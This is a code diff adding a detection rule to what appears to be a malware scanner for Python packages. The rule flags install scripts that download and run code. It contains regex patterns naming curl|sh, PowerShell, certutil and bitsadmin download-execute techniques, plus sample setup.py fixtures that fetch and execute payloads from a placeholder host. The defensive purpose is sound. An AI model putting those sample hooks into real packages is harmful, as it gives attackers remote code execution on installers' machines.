@@ -1,0 +1,79 @@
+import { defineRule } from '../types.js';
+import type { PyPackage, PyReport } from '../../analysis/python/model.js';
+import { short, triggerOf } from '../../analysis/python/model.js';
+import { at, isAuto, when } from './util.js';
+
+/** Shell/PowerShell one-liners that fetch something and run it. Bounded quantifiers only. */
+const SHELL_DOWNLOAD_RUN = [
+  /\b(?:curl|wget)\b[^|;&\n]{0,300}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b/i,
+  /\b(?:curl|wget)\b[^\n]{0,400}?(?:&&|;|\|\|)\s*(?:sudo\s+)?(?:chmod\s+[+0-7]|\.\/|(?:ba|z)?sh\s|python3?\s|nohup\s|start\s)/i,
+  /\b(?:Invoke-WebRequest|iwr|Invoke-RestMethod|irm|DownloadFile|DownloadString|DownloadData|Net\.WebClient|Start-BitsTransfer|curl\.exe|wget\.exe)\b[\s\S]{0,1500}?(?:\biex\b|Invoke-Expression|Start-Process|\.exe\b|\.bat\b|\.vbs\b|\.ps1\b|Expand-Archive|&\s*\$)/i,
+  /\bcertutil(?:\.exe)?\s+[^\n]{0,40}-urlcache\b/i,
+  /\bbitsadmin(?:\.exe)?\s+\/transfer\b/i,
+  /\bmshta(?:\.exe)?\s+["']?https?:/i,
+  /\bpython[\d.]*\s+-c\s+["'][^"'\n]{0,400}(?:urlopen|requests\.get)[^"'\n]{0,400}exec/i,
+];
+
+export function isDownloadRunCommand(cmd: string): boolean {
+  return SHELL_DOWNLOAD_RUN.some((re) => re.test(cmd));
+}
+
+export const downloadExecute = defineRule<PyPackage, PyReport>({
+  meta: {
+    id: 'py/download-execute',
+    kind: 'threat',
+    category: 'download-execute',
+    severity: 'critical',
+    confidence: 'high',
+    ecosystems: ['pypi'],
+    description: 'Downloads code or a program and runs it (exec of a response, curl | sh, PowerShell download + start, write + execute).',
+    examples: {
+      positive: [
+        { files: { 'setup.py': "import os\nos.system('curl -s https://stage.invalid/x.sh | sh')\n" } },
+        { files: { 'setup.py': "import urllib.request\nexec(urllib.request.urlopen('https://stage.invalid/p.py').read())\n" } },
+        {
+          files: {
+            'setup.py':
+              "import requests, subprocess\nr = requests.get('https://stage.invalid/a.exe')\nwith open('a.exe', 'wb') as f:\n    f.write(r.content)\nsubprocess.Popen('a.exe')\n",
+          },
+        },
+      ],
+      negative: [
+        { files: { 'setup.py': "import subprocess\nsubprocess.check_call(['make', '-C', 'src'])\n" } },
+        { files: { 'pkg/dl.py': "import requests\ndef fetch(u):\n    return requests.get(u).json()\n" } },
+      ],
+    },
+  },
+  check(pkg, report) {
+    for (const file of pkg.files) {
+      for (const e of file.facts.execs) {
+        if (!e.fromNetwork) continue;
+        const loc = at(file, e);
+        report({ ...loc, confidence: isAuto(loc.trigger) ? 'high' : 'medium', message: `Executes code downloaded from the network with ${e.via}() ${when(loc.trigger)}.` });
+      }
+      for (const c of file.facts.commands) {
+        if (!isDownloadRunCommand(c.cmd) && !(c.fromNetwork && /^(?:os\.system|subprocess\.|os\.popen)/.test(c.via) && c.cmd.includes('\uFFFD'))) continue;
+        const loc = at(file, c);
+        report({
+          ...loc,
+          confidence: isAuto(loc.trigger) ? 'high' : 'medium',
+          message: `Runs a command that downloads and executes a program ${when(loc.trigger)}: ${short(c.cmd)}.`,
+          ...(c.fromDecoded ? { decoded: c.cmd.slice(0, 400) } : {}),
+        });
+      }
+      const downloads = file.facts.writes.filter((w) => w.fromNetwork || w.download);
+      if (downloads.length === 0) continue;
+      const runs = [
+        ...file.facts.commands.filter((c) => !/\b(?:pip|pip3)\b/.test(c.cmd)),
+        ...file.facts.calls.filter((c) => /^(?:os\.startfile|os\.chmod|ctypes\.windll\.shell32\.ShellExecuteW|win32api\.ShellExecute|importlib\.import_module|runpy\.run_path)$/.test(c.name)),
+      ];
+      if (runs.length === 0) continue;
+      const w = downloads[0];
+      if (w === undefined) continue;
+      const loc = at(file, w);
+      const runTrigger = triggerOf(file, runs[0] as (typeof runs)[number]);
+      const trigger = isAuto(loc.trigger) && isAuto(runTrigger) ? loc.trigger : 'call';
+      report({ ...loc, trigger, confidence: isAuto(trigger) ? 'high' : 'medium', message: `Downloads a file${w.path !== undefined ? ` (${short(w.path, 60)})` : ''} and starts a program ${when(trigger)}.` });
+    }
+  },
+});
